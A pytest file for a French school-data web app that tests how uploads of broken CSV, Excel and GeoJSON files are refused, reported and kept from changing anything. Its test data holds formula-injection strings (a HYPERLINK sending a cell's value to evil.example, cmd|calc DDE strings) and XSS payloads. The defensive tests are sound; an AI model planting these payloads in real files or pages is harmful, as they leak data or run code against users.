"""Uploaded files: a bad one is refused with a precise report and changes nothing; a good one is read in every dialect.

Bad files go through the editor workspace (HTTP, signed in) and a few through `flask datasets import`;
each expected report row (line, column, rule) is derived from how the file was broken and from the
Table Schema descriptors read here as plain JSON, never from the validator's own output. "Nothing
changed" is checked byte for byte: the registry rows, the curated rows of the served build and
what an anonymous reader is answered. Good files are checked with `publishing.check_file` only
(nothing is published), against the shipped file read with the `csv` module.
"""

from __future__ import annotations

import csv
import functools
import io
import json
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Any

import openpyxl
import pytest
from markupsafe import escape

from tests.helpers import SOURCES, read_source_csv, read_source_json, stored_file
from webapp.auth import create_user
from webapp.data import audit, publishing, store
from webapp.data.schema import Schema, validate
from webapp.data.tabular import read_table

EDITOR_EMAIL = "validation-editor@example.invalid"
EDITOR_PASSWORD = "une phrase de passe assez longue"
CATALOGUE = {d["slug"]: d for d in read_source_json("catalogue.json")["datasets"]}
# What an anonymous reader is answered: widgets' data, the embed index, the story page and the
# served files (byte for byte the file of each served version) of the datasets the bad files aim at.
PUBLIC_URLS = ("/embed/ecoles-ips.csv", "/embed/ecoles-brevet.json", "/embed/index.json", "/ecoles") + tuple(
    f"/donnees/{slug}/{rel.rsplit('/', 1)[-1]}"
    for slug in ("colleges-ips", "ecoles-ips", "colleges-dnb-effectifs", "iris-contours")
    for rel in CATALOGUE[slug]["files"].values())
MAX_LISTED = 100  # the report lists the first 100 problems (brief of the editor workspace)
WHOLE_FILE = "fichier"  # what the report's "Ligne" cell says for a problem of the whole file

COLLEGES_IPS = "schools/colleges-ips-2023-dep62.csv"
ECOLES_IPS = "schools/ips-ecoles-2021-2022-dep62.csv"
DNB = "schools/colleges-dnb-effectifs-2021-dep62.csv"
ANNUAIRE = "schools/colleges-adresse-geolocalisation-dep62.csv"
IRIS = "geo/iris-2020-arras-62041.geojson"
CI, EI, DN = "colleges-ips", "ecoles-ips", "colleges-dnb-effectifs"
NAME, COMMUNE = "Nom de l'établissment", "Nom de la commune"  # text columns of ecoles-ips (sic)


@functools.cache
def descriptor(slug: str) -> dict[str, Any]:
    """A dataset's Table Schema, read as JSON (not through the app)."""
    return json.loads((SOURCES.parent / "schemas" / f"{slug}.json").read_text(encoding="utf-8"))


def field_of(slug: str, name: str) -> dict[str, Any]:
    return next(f for f in descriptor(slug)["fields"] if f["name"] == name)


def constraint(slug: str, name: str, key: str) -> Any:
    return field_of(slug, name)["constraints"][key]


def line_of(row: int) -> int:
    """The file line of data row `row` (0-based): the header is line 1."""
    return row + 2


# --- the French wording the workspace promises ---------------------------------------------------

EMPTY = "Le fichier est vide."
HEADER_ONLY = "aucune ligne de données, seulement l'en-tête"
MISSING_COLUMN = "Colonne obligatoire absente de l'en-tête"
NO_EXPECTED_COLUMN = "Aucune colonne attendue n'a été trouvée"
DUPLICATE_COLUMN = "Cette colonne apparaît plusieurs fois dans l'en-tête."
INTEGER = "Type attendu : nombre entier."
NUMBER = "Type attendu : nombre (virgule ou point décimal)."
YEAR = "Type attendu : année sur quatre chiffres."
REQUIRED = "Valeur obligatoire manquante."
DUPLICATE_KEY = "Clé en double"
FORMULA = "ne peut pas commencer par =, +, -, @ ou une tabulation"
MARKUP = "Balise HTML, script ou lien « javascript: » interdit"
BINARY = "il contient des données binaires"
EXCEL_AS_CSV = "est un classeur Excel (ou une archive ZIP) nommé .csv"
BROKEN_XLSX = "Le classeur Excel est illisible"
EXTENSION = "n'a pas une extension acceptée"
UNCLOSED_QUOTE = "Un guillemet ouvert n'est jamais refermé"
NO_SEPARATOR = "Impossible de trouver le séparateur de colonnes"
NOT_GEOJSON = "n'est pas un GeoJSON valide"


def too_large(slug: str, name: str) -> str:
    return f"Valeur trop grande : maximum {constraint(slug, name, 'maximum')}"


def too_small(slug: str, name: str) -> str:
    return f"Valeur trop petite : minimum {constraint(slug, name, 'minimum')}"


def not_allowed(slug: str, name: str) -> str:
    return "Valeur non autorisée. Valeurs possibles : " + ", ".join(constraint(slug, name, "enum"))


def bad_format(slug: str, name: str) -> str:
    return f"Format non reconnu (exemple de valeur correcte : {field_of(slug, name)['example']})"


def mixed_encodings(line: int) -> str:
    return f"la ligne {line} n'est pas en UTF-8"


# --- building files ------------------------------------------------------------------------------

@dataclass
class Sheet:
    """A table of strings read from a shipped CSV: change it, then write it in any dialect."""

    header: list[str]
    rows: list[list[str]]

    @classmethod
    def of(cls, rel: str, sep: str = ";") -> Sheet:
        with open(SOURCES / rel, encoding="utf-8-sig", newline="") as fh:
            header, *rows = list(csv.reader(fh, delimiter=sep))
        return cls(header, rows)

    def col(self, name: str) -> int:
        return self.header.index(name)

    def set(self, row: int, name: str, value: str) -> Sheet:
        self.rows[row][self.col(name)] = value
        return self

    def csv(self, sep: str = ";", encoding: str = "utf-8", quoting: int = csv.QUOTE_MINIMAL,
            newline: str = "\n") -> bytes:
        out = io.StringIO()
        writer = csv.writer(out, delimiter=sep, quoting=quoting, lineterminator=newline)
        writer.writerow(self.header)
        writer.writerows(self.rows)
        return out.getvalue().encode(encoding)

    def lines(self, sep: str = ";") -> list[str]:
        """Each line of the file (header first) as text, unquoted cells joined by `sep`."""
        return [sep.join(r) for r in [self.header, *self.rows]]

    def xlsx(self, cell: Callable[[str, str], Any] = lambda name, value: value) -> bytes:
        book = openpyxl.Workbook()
        sheet = book.active
        sheet.append(self.header)
        for row in self.rows:
            sheet.append([cell(name, value) for name, value in zip(self.header, row)])
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()


def colleges_ips() -> Sheet:
    return Sheet.of(COLLEGES_IPS)


def ecoles_ips() -> Sheet:
    return Sheet.of(ECOLES_IPS)


def accented(row: int) -> Sheet:
    """The écoles file with an accented school name on data row `row`."""
    return ecoles_ips().set(row, NAME, "ÉCOLE PRIMAIRE DES PRÉS")


def dnb() -> Sheet:
    return Sheet.of(DNB, ",")


def dnb_csv(sheet: Sheet) -> bytes:
    return sheet.csv(",", quoting=csv.QUOTE_MINIMAL)


def mixed(sheet: Sheet, cp1252_rows: set[int], first: str = "utf-8", bom: bool = False) -> bytes:
    """The sheet as `;` text, the header and most lines in `first`, the lines of `cp1252_rows` in Windows-1252."""
    other = "cp1252" if first == "utf-8" else "utf-8"
    encoded = [line.encode(other if i - 1 in cp1252_rows else first) for i, line in enumerate(sheet.lines())]
    return (b"\xef\xbb\xbf" if bom else b"") + b"\n".join(encoded) + b"\n"


def png() -> bytes:
    """A real 2 x 2 grey PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    raw = b"".join(b"\x00" + b"\x80\x80" for _ in range(2))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def pdf() -> bytes:
    """The start of a PDF: text objects and a compressed (binary) content stream."""
    text = b"".join(f"BT /F1 12 Tf 72 {700 - i} Td (Ligne {i} : IPS {i * 7 % 100}) Tj ET\n".encode()
                    for i in range(400))
    stream = zlib.compress(text)
    return (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"4 0 obj\n<< /Length " + str(len(stream)).encode() + b" /Filter /FlateDecode >>\nstream\n"
            + stream + b"\nendstream\nendobj\n")


def ods() -> bytes:
    """An OpenDocument spreadsheet (a ZIP whose first member names its type)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        z.writestr("content.xml", "<office:document-content/>")
    return out.getvalue()


def iris_geojson(change: Callable[[dict], None]) -> bytes:
    data = read_source_json(IRIS)
    change(data)
    return json.dumps(data, ensure_ascii=False).encode()


# --- the malformed files -------------------------------------------------------------------------

@dataclass(frozen=True)
class Row:
    """A row the report must show: its line (a number or "fichier"), column, a part of its rule, its value."""

    line: int | str
    column: str
    rule: str
    value: str | None = None


@dataclass(frozen=True)
class Bad:
    id: str
    slug: str
    filename: str
    content: Callable[[], bytes]
    rows: tuple[Row, ...]
    total: int | None = None  # problems found; default: one per expected row
    payload: str | None = None  # text that must be shown escaped, never as markup
    cli: bool = False

    @property
    def problems(self) -> int:
        return self.total if self.total is not None else len(self.rows)


def _file_rows(rule: str) -> tuple[Row, ...]:
    return (Row(WHOLE_FILE, "", rule),)


IPS_FIELDS = [f["name"] for f in descriptor(CI)["fields"]]
IPS_KEY = descriptor(CI)["primaryKey"]
N_IPS = len(colleges_ips().rows)
IPS_WIDTH = len(colleges_ips().header)


def _duplicate_key() -> bytes:
    sheet = colleges_ips()
    sheet.rows.append(list(sheet.rows[2]))
    return sheet.csv()


def _duplicate_key_rows() -> tuple[Row, ...]:
    sheet = colleges_ips()
    key = ", ".join(f"{k} = {sheet.rows[2][sheet.col(k)]}" for k in IPS_KEY)
    column = " + ".join(IPS_KEY)
    return (Row(line_of(2), column, DUPLICATE_KEY, key), Row(line_of(len(sheet.rows)), column, DUPLICATE_KEY, key))


def _every_ips(value: str) -> bytes:
    sheet = colleges_ips()
    for i in range(len(sheet.rows)):
        sheet.set(i, "IPS", value)
    return sheet.csv()


def _without(name: str) -> bytes:
    sheet = colleges_ips()
    i = sheet.col(name)
    return Sheet([c for j, c in enumerate(sheet.header) if j != i],
                 [[c for j, c in enumerate(r) if j != i] for r in sheet.rows]).csv()


def _ragged(row: int) -> bytes:
    sheet = colleges_ips()
    sheet.rows[row].append("en trop")
    return sheet.csv()


def _quoted(row: int, name: str, after: str) -> bytes:
    """The colleges-ips file written as is, with the cell `name` of data row `row` opened by a quote
    and followed by `after` (nothing: the quote is never closed)."""
    sheet = colleges_ips()
    sheet.set(row, name, '"' + sheet.rows[row][sheet.col(name)] + after)
    return ("\n".join(sheet.lines()) + "\n").encode()


def _blank_line_before(row: int, name: str, value: str) -> bytes:
    lines = colleges_ips().set(row, name, value).lines()
    lines.insert(row + 1, "")
    return ("\n".join(lines) + "\n").encode()


def _header_twice(name: str) -> bytes:
    sheet = colleges_ips()
    sheet.header.append(name)
    for r in sheet.rows:
        r.append(r[sheet.col(name)])
    return sheet.csv()


def _with_nul(row: int) -> bytes:
    sheet = colleges_ips()
    return sheet.set(row, "UAI", sheet.rows[row][sheet.col("UAI")] + "\x00").csv()


def _truncated_xlsx() -> bytes:
    content = colleges_ips().xlsx()
    return content[: len(content) // 2]


def _no_geometry() -> bytes:
    def drop(data: dict) -> None:
        del data["features"][3]["geometry"]
    return iris_geojson(drop)


HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1;"Cliquez ici")'
PLUS_CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB_FORMULA = "\t=1+1"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(document.domain)>"
SVG = "<svg/onload=alert(1)>"
JS_URL = "javascript:alert(document.cookie)"
LONG_COMMUNE = "SAINT-" + "A" * (constraint(EI, COMMUNE, "maxLength") - 5)


BAD: list[Bad] = [
    Bad("dnb-file-for-colleges-ips", CI, "colleges-dnb-effectifs-2021-dep62.csv",
        lambda: (SOURCES / DNB).read_bytes(),
        tuple(Row(1, name, MISSING_COLUMN) for name in IPS_FIELDS) + (Row(1, "", NO_EXPECTED_COLUMN),), cli=True),
    Bad("missing-ips-column", CI, "colleges-ips.csv", lambda: _without("IPS"), (Row(1, "IPS", MISSING_COLUMN),)),
    Bad("integer-as-word", DN, "dnb.csv", lambda: dnb_csv(dnb().set(3, "presents", "beaucoup")),
        (Row(line_of(3), "presents", INTEGER, "beaucoup"),)),
    Bad("integer-with-decimals", DN, "dnb.csv", lambda: dnb_csv(dnb().set(5, "6eme_total", "12,5")),
        (Row(line_of(5), "6eme_total", INTEGER),)),
    Bad("number-as-word", CI, "colleges-ips.csv", lambda: colleges_ips().set(4, "IPS", "quatre-vingt").csv(),
        (Row(line_of(4), "IPS", NUMBER, "quatre-vingt"),)),
    Bad("year-as-school-year", CI, "colleges-ips.csv",
        lambda: colleges_ips().set(6, "Rentrée scolaire", "2023-2024").csv(),
        (Row(line_of(6), "Rentrée scolaire", YEAR, "2023-2024"),)),
    Bad("year-two-digits", CI, "colleges-ips.csv", lambda: colleges_ips().set(0, "Rentrée scolaire", "23").csv(),
        (Row(line_of(0), "Rentrée scolaire", YEAR, "23"),)),
    Bad("empty-file", CI, "colleges-ips.csv", lambda: b"", _file_rows(EMPTY), cli=True),
    Bad("whitespace-only", CI, "colleges-ips.csv", lambda: b"  \r\n\t \n   \n", _file_rows(EMPTY)),
    Bad("header-only", CI, "colleges-ips.csv", lambda: Sheet(colleges_ips().header, []).csv(),
        _file_rows(HEADER_ONLY)),
    Bad("duplicate-primary-key", CI, "colleges-ips.csv", _duplicate_key, _duplicate_key_rows()),
    Bad("ips-250", CI, "colleges-ips.csv", lambda: colleges_ips().set(1, "IPS", "250").csv(),
        (Row(line_of(1), "IPS", too_large(CI, "IPS"), "250"),), cli=True),
    Bad("ips-below-minimum", CI, "colleges-ips.csv", lambda: colleges_ips().set(7, "IPS", "29,9").csv(),
        (Row(line_of(7), "IPS", too_small(CI, "IPS")),)),
    Bad("negative-count", DN, "dnb.csv", lambda: dnb_csv(dnb().set(2, "presents", "-3")),
        (Row(line_of(2), "presents", too_small(DN, "presents"), "-3"),)),
    Bad("rate-over-100", DN, "dnb.csv", lambda: dnb_csv(dnb().set(9, "taux_de_reussite", "100,5")),
        (Row(line_of(9), "taux_de_reussite", too_large(DN, "taux_de_reussite")),)),
    Bad("rep-not-in-enum", DN, "dnb.csv", lambda: dnb_csv(dnb().set(1, "rep", "2")),
        (Row(line_of(1), "rep", not_allowed(DN, "rep"), "2"),)),
    Bad("sector-not-in-enum", EI, "ecoles-ips.csv", lambda: ecoles_ips().set(0, "Secteur", "privé hors contrat").csv(),
        (Row(line_of(0), "Secteur", not_allowed(EI, "Secteur"), "privé hors contrat"),)),
    Bad("uai-seven-characters", CI, "colleges-ips.csv", lambda: colleges_ips().set(3, "UAI", "062002R").csv(),
        (Row(line_of(3), "UAI", bad_format(CI, "UAI"), "062002R"),)),
    Bad("uai-lowercase", CI, "colleges-ips.csv", lambda: colleges_ips().set(4, "UAI", "0620047p").csv(),
        (Row(line_of(4), "UAI", bad_format(CI, "UAI"), "0620047p"),)),
    Bad("required-value-empty", CI, "colleges-ips.csv", lambda: colleges_ips().set(5, "IPS", "").csv(),
        (Row(line_of(5), "IPS", REQUIRED),)),
    Bad("required-value-nd", CI, "colleges-ips.csv", lambda: colleges_ips().set(8, "IPS", "ND").csv(),
        (Row(line_of(8), "IPS", REQUIRED),)),
    Bad("commune-too-long", EI, "ecoles-ips.csv", lambda: ecoles_ips().set(11, COMMUNE, LONG_COMMUNE).csv(),
        (Row(line_of(11), COMMUNE, f"0 à {constraint(EI, COMMUNE, 'maxLength')} caractères", LONG_COMMUNE),)),
    Bad("mixed-encodings-utf8-then-cp1252", EI, "ecoles-ips.csv", lambda: mixed(accented(6), {6}),
        _file_rows(mixed_encodings(line_of(6))), cli=True),
    Bad("mixed-encodings-bom-then-cp1252", EI, "ecoles-ips.csv", lambda: mixed(accented(40), {40}, bom=True),
        _file_rows(mixed_encodings(line_of(40)))),
    Bad("mixed-encodings-cp1252-then-utf8", EI, "ecoles-ips.csv", lambda: mixed(accented(12), {12}, first="cp1252"),
        _file_rows(mixed_encodings(1))),  # the header's « Rentrée » is the first line not in UTF-8
    Bad("truncated-xlsx", CI, "colleges-ips.xlsx", _truncated_xlsx, _file_rows(BROKEN_XLSX)),
    Bad("xlsx-named-csv", CI, "colleges-ips.csv", lambda: colleges_ips().xlsx(), _file_rows(EXCEL_AS_CSV), cli=True),
    Bad("png-named-csv", CI, "colleges-ips.csv", png, _file_rows(BINARY)),
    Bad("pdf-named-csv", CI, "colleges-ips.csv", pdf, _file_rows(BINARY)),
    Bad("nul-byte-in-cell", CI, "colleges-ips.csv", lambda: _with_nul(10), _file_rows(BINARY)),
    Bad("ragged-row", CI, "colleges-ips.csv", lambda: _ragged(2),
        _file_rows(f"Ligne {line_of(2)} : {IPS_WIDTH + 1} colonnes au lieu des {IPS_WIDTH} de l'en-tête")),
    Bad("unclosed-quote", CI, "colleges-ips.csv", lambda: _quoted(5, "UAI", ""),
        _file_rows(UNCLOSED_QUOTE)),
    Bad("text-after-closing-quote", CI, "colleges-ips.csv", lambda: _quoted(1, "UAI", '"X'),
        _file_rows(f"Ligne {line_of(1)} : guillemets mal placés")),
    Bad("no-separator", CI, "colleges-ips.csv", lambda: "Rentrée scolaire\n2023\n2023\n".encode(),
        _file_rows(NO_SEPARATOR)),
    Bad("pdf-extension", CI, "rapport.pdf", pdf, _file_rows(f"« rapport.pdf » {EXTENSION}")),
    Bad("ods-extension", CI, "colleges-ips.ods", ods, _file_rows(f"« colleges-ips.ods » {EXTENSION}")),
    Bad("formula-hyperlink", EI, "ecoles-ips.csv", lambda: ecoles_ips().set(0, NAME, HYPERLINK).csv(),
        (Row(line_of(0), NAME, FORMULA, HYPERLINK),), payload=HYPERLINK),
    Bad("formula-plus-cmd", EI, "ecoles-ips.csv", lambda: ecoles_ips().set(3, COMMUNE, PLUS_CMD).csv(),
        (Row(line_of(3), COMMUNE, FORMULA, PLUS_CMD),), payload=PLUS_CMD),
    Bad("formula-at-sum", EI, "ecoles-ips.csv", lambda: ecoles_ips().set(7, NAME, AT_SUM).csv(),
        (Row(line_of(7), NAME, FORMULA, AT_SUM),), payload=AT_SUM),
    Bad("formula-minus", EI, "ecoles-ips.csv", lambda: ecoles_ips().set(8, NAME, MINUS).csv(),
        (Row(line_of(8), NAME, FORMULA, MINUS),), payload=MINUS),
    Bad("formula-after-tab", EI, "ecoles-ips.csv", lambda: ecoles_ips().set(9, NAME, TAB_FORMULA).csv(),
        (Row(line_of(9), NAME, FORMULA, TAB_FORMULA),)),
    Bad("script-tag", EI, "ecoles-ips.csv", lambda: ecoles_ips().set(2, NAME, SCRIPT).csv(),
        (Row(line_of(2), NAME, MARKUP, SCRIPT),), payload=SCRIPT, cli=True),
    Bad("img-onerror", EI, "ecoles-ips.csv", lambda: ecoles_ips().set(4, COMMUNE, IMG).csv(),
        (Row(line_of(4), COMMUNE, MARKUP, IMG),), payload=IMG),
    Bad("svg-onload", EI, "ecoles-ips.csv", lambda: ecoles_ips().set(5, NAME, SVG).csv(),
        (Row(line_of(5), NAME, MARKUP, SVG),), payload=SVG),
    Bad("formula-in-unused-column", EI, "ecoles-ips.csv", lambda: ecoles_ips().set(13, "Académie", HYPERLINK).csv(),
        (Row(line_of(13), "Académie", FORMULA, HYPERLINK),), payload=HYPERLINK),
    Bad("script-in-unused-column", EI, "ecoles-ips.csv", lambda: ecoles_ips().set(14, "Département", SCRIPT).csv(),
        (Row(line_of(14), "Département", MARKUP, SCRIPT),), payload=SCRIPT),
    Bad("javascript-url", EI, "ecoles-ips.csv", lambda: ecoles_ips().set(6, NAME, JS_URL).csv(),
        (Row(line_of(6), NAME, MARKUP, JS_URL),)),
    Bad("script-tag-in-xlsx", EI, "ecoles-ips.xlsx", lambda: ecoles_ips().set(10, NAME, SCRIPT).xlsx(),
        (Row(line_of(10), NAME, MARKUP, SCRIPT),), payload=SCRIPT),
    Bad("markup-file-name", CI, f"{IMG}.csv", lambda: colleges_ips().set(2, "IPS", "250").csv(),
        (Row(line_of(2), "IPS", too_large(CI, "IPS"), "250"),), payload=f"{IMG}.csv"),
    Bad("markup-file-name-bad-extension", CI, f"{SCRIPT}.pdf", pdf,
        _file_rows(f"« {SCRIPT}.pdf » {EXTENSION}"), payload=SCRIPT),
    Bad("more-than-100-errors", CI, "colleges-ips.csv", lambda: _every_ips("999"),
        (Row(line_of(0), "IPS", too_large(CI, "IPS"), "999"),
         Row(line_of(MAX_LISTED - 1), "IPS", too_large(CI, "IPS"), "999")), total=N_IPS, cli=True),
    Bad("duplicate-header-column", CI, "colleges-ips.csv", lambda: _header_twice("UAI"),
        (Row(1, "UAI", DUPLICATE_COLUMN),)),
    # A blank line before data row 3 (file line 5) pushes that row down to file line 6.
    Bad("line-number-after-blank-line", CI, "colleges-ips.csv", lambda: _blank_line_before(3, "IPS", "250"),
        (Row(line_of(3) + 1, "IPS", too_large(CI, "IPS"), "250"),)),
    Bad("geojson-cut-short", "iris-contours", "iris.geojson", lambda: (SOURCES / IRIS).read_bytes()[:3000],
        _file_rows(NOT_GEOJSON)),
    Bad("geojson-feature-without-geometry", "iris-contours", "iris.geojson", _no_geometry, _file_rows(NOT_GEOJSON)),
]


# --- reading the answer --------------------------------------------------------------------------

class ReportTable(HTMLParser):
    """The rows (line, column, value, rule) of the report section of an editor page, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.rows: list[tuple[str, str, str, str]] = []
        self.text = ""
        self._depth = 0  # nesting of <section> inside the report
        self._row: list[str] | None = None
        self._cell: list[str] | None = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag == "section" and (self._depth or dict(attrs).get("id") == "report"):
            self._depth += 1
        if not self._depth:
            return
        if tag == "tr":
            self._row = []
        elif tag == "td" and self._row is not None:
            self._cell = []

    def handle_endtag(self, tag):
        if not self._depth:
            return
        if tag == "section":
            self._depth -= 1
        elif tag == "td" and self._cell is not None and self._row is not None:
            self._row.append("".join(self._cell))
            self._cell = None
        elif tag == "tr" and self._row:
            self.rows.append(tuple(self._row))
            self._row = None

    def handle_data(self, data):
        if self._depth:
            self.text += data
            if self._cell is not None:
                self._cell.append(data)


def assert_shows(rows: list[tuple[str, ...]], expected: Row, where: str) -> None:
    for line, column, value, rule in rows:
        if (line.strip() == str(expected.line) and column.strip() == expected.column and expected.rule in rule
                and (expected.value is None or value == expected.value)):
            return
    shown = "\n".join(" | ".join(r) for r in rows) or "(no row)"
    pytest.fail(f"{where}: no report row {expected} among:\n{shown}")


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found, "no csrf_token in the form"
    return found.group(1)


def sign_in(server) -> Any:
    client = server.test_client()
    token = csrf_of(client.get("/editeur/connexion").get_data(as_text=True))
    answer = client.post("/editeur/connexion", data={"email": EDITOR_EMAIL, "password": EDITOR_PASSWORD,
                                                     "csrf_token": token})
    assert answer.status_code == 302, answer.get_data(as_text=True)[:500]
    return client


def upload(client, slug: str, content: bytes, filename: str) -> Any:
    token = csrf_of(client.get(f"/editeur/donnees/{slug}").get_data(as_text=True))
    return client.post(f"/editeur/donnees/{slug}/deposer", content_type="multipart/form-data",
                       data={"csrf_token": token, "fichier": (io.BytesIO(content), filename),
                             "source_date": "2026-10-01"})


# --- "nothing changed" ---------------------------------------------------------------------------

def served_build(server) -> int:
    with server.test_request_context():
        return store.build_id("ecoles")


def snapshot(server, db) -> dict[str, Any]:
    """Registry rows, the served build's curated rows and the public answers, as bytes or text."""
    build = served_build(server)
    state: dict[str, Any] = {
        "dataset": db.query_df("SELECT * FROM dataset ORDER BY slug").to_csv(index=False),
        "dataset_version": db.query_df("SELECT * FROM dataset_version ORDER BY dataset_slug, version").to_csv(index=False),
        "dataset_file rows": db.scalar("SELECT COUNT(*) FROM dataset_file"),
        "build rows": db.scalar("SELECT COUNT(*) FROM build"),
        "served build": build,
    }
    for table in publishing.GROUPS["ecoles"].tables:
        order = ", ".join(c.name for c in table.primary_key.columns)
        state[f"{table.name} (served build)"] = db.query_df(
            f"SELECT * FROM {table.name} WHERE build_id = :b ORDER BY {order}", {"b": build}).to_csv(index=False)
    anonymous = server.test_client()
    for url in PUBLIC_URLS:
        answer = anonymous.get(url)
        state[url] = (answer.status_code, answer.headers.get("Content-Type"), without_page_load_token(answer.get_data()))
    return state


# Dash writes into every page's config a token minted for that page load: 24 random characters
# and their HMAC (`end_id` in dash/dash.py `_config`, see dash/_callback_signing.py), which binds
# background-callback handles to one page load. It is the only part of a page that differs between
# two identical requests.
PAGE_LOAD_TOKEN = re.compile(rb'"end_id":"[A-Za-z0-9]{24}~[0-9a-f]{64}"')


def without_page_load_token(body: bytes) -> bytes:
    masked, found = PAGE_LOAD_TOKEN.subn(b'"end_id":"(page load token)"', body)
    assert found <= 1, "more than one page-load token"
    return masked


def assert_unchanged(before: Mapping[str, Any], after: Mapping[str, Any]) -> None:
    changed = [k for k in before if before[k] != after[k]]
    assert not changed, f"changed: {changed}"


def discard_if_staged(db, answer) -> None:
    """If a bad file was wrongly accepted, drop the version it staged so the next tests start clean."""
    found = re.search(r"/editeur/donnees/([^/]+)/(\d+)", answer.headers.get("Location", ""))
    if answer.status_code == 302 and found:
        publishing.discard(db, found.group(1), int(found.group(2)), "test")


# --- fixtures --------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def editor(server, db):
    """A signed-in editor's client."""
    if not db.scalar("SELECT COUNT(*) FROM app_user WHERE email = :e", {"e": EDITOR_EMAIL}):
        create_user(db, EDITOR_EMAIL, EDITOR_PASSWORD, "editor")
    return sign_in(server)


@pytest.fixture(scope="module")
def app_1mib(app, settings, editor):
    """A second app on the same database that accepts uploads of at most 1 MiB."""
    from webapp import create_app

    second = create_app(settings.replace(upload_max_mb=1))
    yield second
    second.server.extensions["arras_db"].dispose()


# --- bad files -------------------------------------------------------------------------------------

@pytest.mark.parametrize("case", BAD, ids=lambda c: c.id)
def test_bad_file_is_refused_with_a_precise_report_and_changes_nothing(case, editor, server, db):
    content = case.content()
    before = snapshot(server, db)
    answer = upload(editor, case.slug, content, case.filename)
    try:
        body = answer.get_data(as_text=True)
        assert answer.status_code == 422, f"{answer.status_code} {answer.headers.get('Location')}"
        report = ReportTable(body)
        assert "Le fichier n'a pas été accepté" in report.text
        found = "problèmes trouvés" if case.problems > 1 else "problème trouvé"  # French: 1 is singular
        assert f"{case.problems} {found}. Rien n'a été publié" in report.text
        for row in case.rows:
            assert_shows(report.rows, row, case.id)
        assert len(report.rows) == min(case.problems, MAX_LISTED)
        if case.problems > MAX_LISTED:
            assert f"Seuls les {MAX_LISTED} premiers problèmes sont listés." in report.text
            assert max(int(r[0]) for r in report.rows) == line_of(MAX_LISTED - 1)
        if case.payload:
            assert case.payload not in body
            assert str(escape(case.payload)) in body
        assert "<script>alert" not in body and "<img src=x" not in body and "<svg/onload" not in body
    finally:
        discard_if_staged(db, answer)
    assert_unchanged(before, snapshot(server, db))


CLI_CASES = [c for c in BAD if c.cli]


@pytest.mark.parametrize("case", CLI_CASES, ids=lambda c: c.id)
def test_cli_import_refuses_a_bad_file_with_the_same_report(case, server, db, tmp_path):
    path = tmp_path / case.filename
    path.write_bytes(case.content())
    before = snapshot(server, db)
    result = server.test_cli_runner().invoke(args=["datasets", "import", case.slug, str(path), "--publish"])
    assert result.exit_code == 1, result.output
    err = result.stderr
    problems = "problèmes" if case.problems > 1 else "problème"
    assert f"Fichier refusé : {case.problems} {problems}. Rien n'a été publié." in err
    lines = err.splitlines()
    for row in case.rows:
        where = WHOLE_FILE if row.line == WHOLE_FILE else f"ligne {row.line}"
        column = f", colonne « {row.column} »" if row.column else ""
        value = re.escape(f", valeur « {row.value} »") if row.value else "(, valeur « .* »)?"
        shape = re.compile(re.escape(f"{where}{column}") + value + " : .*" + re.escape(row.rule))
        assert any(shape.match(line) for line in lines), (row, err)
    if case.problems > MAX_LISTED:
        assert f"… et {case.problems - MAX_LISTED} autres problèmes ({case.problems} au total)." in err
    assert "published" not in result.stdout
    assert_unchanged(before, snapshot(server, db))


def test_oversized_file_is_refused_before_reading_and_changes_nothing(app_1mib, server, db):
    client = sign_in(app_1mib.server)
    one = colleges_ips().csv()
    content = one * (1024 * 1024 // len(one) + 2)  # just over 1 MiB
    assert 1024 * 1024 < len(content) < 2 * 1024 * 1024
    before = snapshot(server, db)
    answer = upload(client, CI, content, "colleges-ips.csv")
    assert answer.status_code == 413
    assert "Le fichier dépasse la taille maximale autorisée (1 Mo)" in answer.get_data(as_text=True)
    assert_unchanged(before, snapshot(server, db))


def test_good_upload_is_staged_and_the_snapshot_sees_it(editor, server, db):
    """The same path with a good file answers a redirect to its preview and writes a staged version
    (so the snapshot can see a write), while readers are still served the version before."""
    before = snapshot(server, db)
    answer = upload(editor, CI, _corrected_colleges_ips(), "colleges-ips-corrige.csv")
    try:
        assert answer.status_code == 302
        version = int(re.search(rf"/editeur/donnees/{CI}/(\d+)", answer.headers["Location"])[1])
        assert _status(db, CI, version) == "staged"
        after = snapshot(server, db)
        assert {k for k in before if before[k] != after[k]} == {"dataset_version", "dataset_file rows", "build rows"}
    finally:
        discard_if_staged(db, answer)


def test_public_answers_are_the_same_bytes_for_the_same_request(server):
    """The byte-for-byte check above is meaningful: two identical requests get the same bytes,
    but for the story page's page-load token, which must differ (else masking it would hide nothing)."""
    first, second = server.test_client(), server.test_client()
    for url in PUBLIC_URLS:
        answers = first.get(url), second.get(url)
        assert [r.status_code for r in answers] == [200, 200], url
        a, b = (r.get_data() for r in answers)
        if url == "/ecoles":
            assert PAGE_LOAD_TOKEN.search(a)[0] != PAGE_LOAD_TOKEN.search(b)[0]
        assert without_page_load_token(a) == without_page_load_token(b), url


# --- good files in every dialect ---------------------------------------------------------------------

def ips_values(rows: list[dict[str, Any]]) -> list[tuple[int, str, float]]:
    return [(int(r["Rentrée scolaire"]), r["UAI"], float(r["IPS"])) for r in rows]


ORIGINAL_IPS = ips_values(read_source_csv(COLLEGES_IPS))
IPS_EXTRA = [c for c in colleges_ips().header if c not in IPS_FIELDS]


